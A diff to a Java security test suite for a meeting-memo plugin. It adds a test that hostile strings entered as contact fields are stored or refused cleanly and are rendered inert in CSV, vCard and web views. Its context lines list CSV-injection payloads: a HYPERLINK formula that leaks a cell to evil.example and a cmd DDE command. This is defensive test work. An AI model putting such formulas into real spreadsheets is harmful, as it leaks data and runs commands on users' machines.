@@ -216,6 +216,61 @@ class HostileStringsTest {
      * the series and the page title. The CSV export, opened with a real CSV reader, has no cell that starts with
      * a formula character, and each text cell is the JSON list's value, or that value after one added quote.
      */
+    /**
+     * Every string as a contact's name, role and notes: accepted as written (and read back, in CSV with one quote
+     * before a formula, in vCard as one card each) or refused with a 400 and a reason, never a 500; the register's page
+     * shows them inert.
+     */
+    @Test
+    void everyStringAsAContactIsKeptAsWrittenOrRefusedAndTheRegisterAndItsExportsAreInert() throws Exception {
+        String space = "VIHAMIELINEN";
+        test.host.pages().store().ensureSpace(space, "Vihamieliset yhteystiedot");
+        List<String> findings = new ArrayList<>();
+        Map<String, String> acceptedById = new LinkedHashMap<>();
+        for (String s : strings) {
+            ObjectNode body = TestHost.JSON.createObjectNode().put("spaceKey", space).put("name", s).put("role", s).put("notes", s);
+            Http.Answer created = Http.json(base, "admin", "POST", API + "/people", body);
+            if (created.status() == 201) {
+                JsonNode person = created.json();
+                acceptedById.put(person.get("id").asText(), s.strip());
+                if (!s.strip().equals(person.get("name").asText())) findings.add(HostileMemo.printable(s) + ": name read back as " + HostileMemo.printable(person.get("name").asText()));
+                if (!s.strip().equals(person.get("notes").asText())) findings.add(HostileMemo.printable(s) + ": notes read back differently");
+            } else if (created.status() != 400 || !created.body().contains("\"problems\"")) {
+                findings.add(HostileMemo.printable(s) + ": neither stored nor refused with reasons: " + created);
+            }
+        }
+        Http.Answer csv = Http.get(base, "admin", API + "/people.csv?spaceKey=" + space);
+        assertEquals(200, csv.status(), csv.toString());
+        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build()
+                .parse(new StringReader(csv.body().substring(1))).getRecords();
+        if (rows.size() != acceptedById.size()) findings.add(rows.size() + " CSV rows for " + acceptedById.size() + " people");
+        for (CSVRecord row : rows) {
+            String name = acceptedById.get(row.get("id")), cell = row.get("name");
+            if (!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0) findings.add("a CSV cell starts a formula: " + HostileMemo.printable(cell));
+            String recovered = cell.startsWith("'") && name != null && !name.startsWith("'") ? cell.substring(1) : cell;
+            if (!recovered.equals(name)) findings.add("CSV name " + HostileMemo.printable(cell) + " is not " + HostileMemo.printable(String.valueOf(name)));
+        }
+        Http.Answer vcard = Http.get(base, "admin", API + "/people.vcf?spaceKey=" + space);
+        assertEquals(200, vcard.status(), vcard.toString());
+        List<ezvcard.VCard> cards = ezvcard.Ezvcard.parse(vcard.body()).all();
+        if (cards.size() != acceptedById.size()) findings.add(cards.size() + " vCards for " + acceptedById.size() + " people");
+        Set<String> names = new HashSet<>(acceptedById.values());
+        for (ezvcard.VCard card : cards) {
+            String name = card.getFormattedName().getValue();
+            if (!names.contains(name)) findings.add("a vCard name that no person has: " + HostileMemo.printable(name));
+        }
+        Counts.record("hostile.contactsAccepted", acceptedById.size());
+        Counts.record("hostile.contactsRefused", strings.size() - acceptedById.size());
+        try (HostileBrowser browser = HostileBrowser.open(base).login("admin")) {
+            findings.addAll(browser.audit("/plugins/servlet/meeting-memo/contacts?space=" + space, -1, false));
+            List<String> shownNames = browser.texts(".mm-contacts-people tbody td:first-child a");
+            Set<String> expected = new HashSet<>();
+            for (String n : acceptedById.values()) expected.add(shown(n));
+            for (String n : shownNames) if (!expected.contains(shown(n))) findings.add("the register page shows a name no person has: " + HostileMemo.printable(n));
+        }
+        assertNoDifferences(findings);
+    }
+
     @Test
     void noCsvCellStartsAFormulaAndTheTextIsRecoverableByDroppingOneQuote() throws Exception {
         List<String> formulas = new ArrayList<>(List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
